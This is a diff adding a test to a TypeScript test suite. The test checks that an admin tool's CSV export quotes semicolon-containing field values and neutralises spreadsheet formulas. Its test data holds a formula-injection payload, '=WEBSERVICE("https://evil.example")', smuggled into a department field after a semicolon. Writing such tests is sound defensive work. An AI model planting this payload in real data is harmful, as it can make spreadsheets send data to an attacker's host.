@@ -292,6 +292,16 @@ describe('the export of group participants', () => {
     expect(await runAdmin(['export', '--questionnaire', 'web-check', '--format', 'json'], json)).toBe(EXIT.ok);
     expect((JSON.parse(json.text()) as Array<Record<string, unknown>>).find((r) => r.participant === members[1]!.memberId)!['field:Abteilung']).toBe(formula);
   });
+
+  it('quotes a field value holding a semicolon in the comma-separated export too, and neutralises the formula after it', async () => {
+    // Excel in German opens a comma-separated file split at ';': unquoted, the second half would be a cell of its own.
+    const split = 'Vertrieb;=WEBSERVICE("https://evil.example")';
+    await withDb(env, (opened) => opened.db.query('update group_member set field_values = $2::jsonb where id = $1', [members[1]!.memberId, JSON.stringify({ 1: split })]));
+    const csv = recorder(env);
+    expect(await runAdmin(['export', '--questionnaire', 'web-check'], csv)).toBe(EXIT.ok);
+    expect(csv.text()).toContain(`,"Vertrieb;'=WEBSERVICE(""https://evil.example"")"`);
+    expect(parseCsv(csv.text()).find((r) => r.participant === String(members[1]!.memberId))!['field:Abteilung']).toBe(`Vertrieb;'=WEBSERVICE("https://evil.example")`);
+  });
 });
 
 describe('the export of requirements-analysis participants', () => {
